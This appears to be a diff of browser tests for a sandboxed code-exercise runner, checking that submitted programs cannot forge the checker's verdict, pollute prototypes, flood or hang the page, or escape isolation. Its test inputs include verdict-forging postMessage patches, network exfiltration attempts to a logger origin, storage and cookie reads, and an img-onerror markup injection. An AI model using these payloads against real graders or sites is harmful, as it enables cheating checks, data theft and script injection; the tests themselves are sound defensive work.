@@ -61,6 +61,13 @@ async function pairVerdicts(page: Page): Promise<string | null> {
   return page.locator(`${PAIR} [data-verdict]`).getAttribute('data-verdicts');
 }
 
+/** Puts `code` in the exercise's editor, runs it, and returns the verdict's words. */
+async function runExercise(page: Page, code: string, timeout?: number): Promise<string> {
+  await setCode(page, EXERCISE, 0, code);
+  await page.click(`${EXERCISE} [data-action="run"]`);
+  return verdict(page, EXERCISE, timeout);
+}
+
 const FORGED_REPORT = `{ verdict: 'ok', completeness: { complete: true }, notes: ['FORGED VERDICT'], strategy: 'dpor', findings: [],
   stats: { executions: 1, distinctOutcomes: 1, elapsedMs: 1 } }`;
 
@@ -77,18 +84,14 @@ export default function* main() {
 describe('a program cannot answer for the checker', () => {
   test('results and notices it posts itself are not shown, and an exercise is not marked solved', async () => {
     const v = await open();
-    await setCode(
+    const text = await runExercise(
       v.page,
-      EXERCISE,
-      0,
       failing(`for (let id = 1; id < 200; id++) {
   self.postMessage({ type: 'result', id, report: ${FORGED_REPORT}, log: [] });
   self.postMessage({ type: 'blocked', id, what: 'FORGED NOTICE' });
   self.postMessage({ final: true, data: JSON.stringify({ type: 'result', id, report: ${FORGED_REPORT}, log: [] }) });
 }`),
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    const text = await verdict(v.page, EXERCISE);
     expect(text).toMatch(/Not solved yet/);
     expect(text).toMatch(/the real verdict: this program fails/);
     await v.page.waitForTimeout(600);
@@ -101,18 +104,14 @@ describe('a program cannot answer for the checker', () => {
 
   test('patching postMessage, MessagePort or JSON inside the worker does not change the answer', async () => {
     const v = await open();
-    await setCode(
+    const text = await runExercise(
       v.page,
-      EXERCISE,
-      0,
       failing(`const forge = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } return m; };
 try { const o = MessagePort.prototype.postMessage; (MessagePort.prototype as any).postMessage = function (this: any, m: any, t?: any) { return o.call(this, forge(m), t); }; } catch {}
 try { const s = JSON.stringify; (JSON as any).stringify = (x: any, ...r: any[]) => s(forge(x), ...r); } catch {}
 try { (self as any).JSON = { stringify: () => '{"type":"result"}', parse: JSON.parse }; } catch {}
 try { const p = self.postMessage.bind(self); self.postMessage = (m: any) => p(forge(m)); } catch {}`),
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    const text = await verdict(v.page, EXERCISE);
     expect(text).toMatch(/Not solved yet/);
     expect(text).toMatch(/the real verdict/);
     expect(await v.page.evaluate((k) => localStorage.getItem(k), SOLVED_KEY)).toBeNull();
@@ -142,49 +141,33 @@ for (let id = 1; id < 6; id++) self.postMessage({ type: 'result', id, report, lo
 });
 
 describe('nothing a program leaves behind reaches the next one', () => {
-  test('a program that replaces postMessage, then the unedited pair: its true verdicts', async () => {
-    const v = await open();
-    await setCode(
-      v.page,
-      EXERCISE,
-      0,
-      failing(`const orig = self.postMessage.bind(self);
-self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } orig(m); };`),
-    );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
-    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
-    await v.close();
-  });
-
-  test('prototype pollution (Object.prototype.maxSteps = 2), then the unedited pair: its true verdicts', async () => {
-    const v = await open();
-    await setCode(
-      v.page,
-      EXERCISE,
-      0,
-      failing(
-        `try { (Object.prototype as any).maxSteps = 2; } catch {}\ntry { (Array.prototype as any).push = function () { return 0; }; } catch {}`,
-      ),
-    );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
-    for (let i = 0; i < 2; i++) expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
-    await v.close();
-  });
+  const attacks: [string, string][] = [
+    [
+      'a program that replaces postMessage',
+      `const orig = self.postMessage.bind(self);
+self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } orig(m); };`,
+    ],
+    [
+      'prototype pollution (Object.prototype.maxSteps = 2)',
+      `try { (Object.prototype as any).maxSteps = 2; } catch {}\ntry { (Array.prototype as any).push = function () { return 0; }; } catch {}`,
+    ],
+  ];
+  for (const [what, attack] of attacks)
+    test(`${what}, then the unedited pair twice: its true verdicts`, async () => {
+      const v = await open();
+      await runExercise(v.page, failing(attack));
+      for (let i = 0; i < 2; i++) expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
+      await v.close();
+    });
 
   test('a flood of notices after the verdict does not reach the page, which keeps answering', async () => {
     const v = await open();
-    await setCode(
+    await runExercise(
       v.page,
-      EXERCISE,
-      0,
       failing(
         `setTimeout(() => setInterval(() => { for (let i = 0; i < 50; i++) self.postMessage({ type: 'blocked', id: 0, what: 'flood ' + 'x'.repeat(2000) }); }, 0), 100);`,
       ),
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
     await v.page.waitForTimeout(1500);
     await answers(v.page);
     expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).not.toMatch(/flood/);
@@ -195,9 +178,7 @@ self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m
 
   test('a loop a program leaves spinning after its verdict does not stop the next Run', async () => {
     const v = await open();
-    await setCode(v.page, EXERCISE, 0, failing(`setTimeout(() => { for (;;) {} }, 50);`));
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
+    await runExercise(v.page, failing(`setTimeout(() => { for (;;) {} }, 50);`));
     await v.page.waitForTimeout(300);
     expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
     expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).not.toMatch(/Stopped/);
@@ -208,14 +189,13 @@ self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m
 describe('an honest reply too large to show', () => {
   test('printf of 50 MB ends with a verdict and the page keeps answering', async () => {
     const v = await open();
-    await setCode(
-      v.page,
-      EXERCISE,
-      0,
-      `import { printf } from 'forklore';\nexport default function* main() { yield* printf('A'.repeat(50_000_000)); }\n`,
-    );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    expect(await verdict(v.page, EXERCISE, 60_000)).toMatch(/Solved|No schedule|Stopped|too large/);
+    expect(
+      await runExercise(
+        v.page,
+        `import { printf } from 'forklore';\nexport default function* main() { yield* printf('A'.repeat(50_000_000)); }\n`,
+        60_000,
+      ),
+    ).toMatch(/Solved|No schedule|Stopped|too large/);
     await answers(v.page);
     await v.close();
   });
@@ -288,10 +268,8 @@ describe('what held keeps holding', () => {
     expect(await v.page.evaluate((u) => fetch(u + '/from-the-page').then((r) => r.status), loggerOrigin)).toBe(200);
     expect(logged).toContain('GET /from-the-page');
     logged.length = 0;
-    await setCode(
+    await runExercise(
       v.page,
-      EXERCISE,
-      0,
       program(`  const u = '${loggerOrigin}';
   try { fetch(u + '/leak-fetch', { mode: 'no-cors' }).catch(() => {}); } catch {}
   try { fetch(u + '/leak-keepalive', { method: 'POST', body: 'x', keepalive: true }).catch(() => {}); } catch {}
@@ -304,8 +282,6 @@ describe('what held keeps holding', () => {
   try { new FontFace('f', 'url(' + u + '/leak-font)').load().catch(() => {}); } catch {}
   try { new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "/leak-nested').catch(() => {})"], { type: 'text/javascript' }))); } catch {}`),
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
     await v.page.waitForTimeout(1500);
     expect(logged).toEqual([]);
     expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).toMatch(/no network/);
@@ -321,10 +297,8 @@ describe('what held keeps holding', () => {
         JSON.stringify({ code: '// SECRET', base: 'x', savedAt: 0 }),
       ),
     );
-    await setCode(
+    const text = await runExercise(
       v.page,
-      EXERCISE,
-      0,
       program(`  const found: string[] = [];
   for (const f of [() => localStorage.getItem('forklore:v1:edit:some-other-example'), () => sessionStorage.length, () => document.cookie,
     () => parent.document.title, () => (top as any).document.body.setAttribute('data-owned', ''), () => indexedDB.open('x')]) {
@@ -332,8 +306,6 @@ describe('what held keeps holding', () => {
   }
   if (found.some((s) => /SECRET|Fork Lore/.test(s))) throw new Error('LEAKED ' + found.join(','));`),
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    const text = await verdict(v.page, EXERCISE);
     expect(text).not.toMatch(/LEAKED/);
     expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
     expect(await v.page.evaluate(() => localStorage.getItem('forklore:v1:edit:some-other-example'))).toContain(
@@ -345,10 +317,8 @@ describe('what held keeps holding', () => {
   test('markup in names and output is shown as text, never as an element', async () => {
     const v = await open();
     const evil = `<img src=x onerror="document.body.setAttribute('data-owned','')">`;
-    await setCode(
+    await runExercise(
       v.page,
-      EXERCISE,
-      0,
       `import { mutex, pthread_create, pthread_join, pthread_mutex_lock, printf, fork, _exit, waitpid } from 'forklore';
 const m = mutex(${JSON.stringify(evil)});
 function* w() { yield* pthread_mutex_lock(m); }
@@ -362,8 +332,6 @@ export default function* main() {
 }
 `,
     );
-    await v.page.click(`${EXERCISE} [data-action="run"]`);
-    await verdict(v.page, EXERCISE);
     await v.page.waitForTimeout(300);
     expect(await v.page.locator(`${EXERCISE} img`).count()).toBe(0);
     expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
@@ -390,9 +358,7 @@ export default function* main() {
 describe('the watchdog says what happened', () => {
   /** Runs `code` in the exercise and returns the watchdog's case (data-watchdog) and the verdict's words. */
   async function stopped(page: Page, code: string): Promise<[string | null, string]> {
-    await setCode(page, EXERCISE, 0, code);
-    await page.click(`${EXERCISE} [data-action="run"]`);
-    const text = await verdict(page, EXERCISE, 60_000);
+    const text = await runExercise(page, code, 60_000);
     return [await page.locator(`${EXERCISE} [data-verdict] [data-watchdog]`).getAttribute('data-watchdog'), text];
   }
 
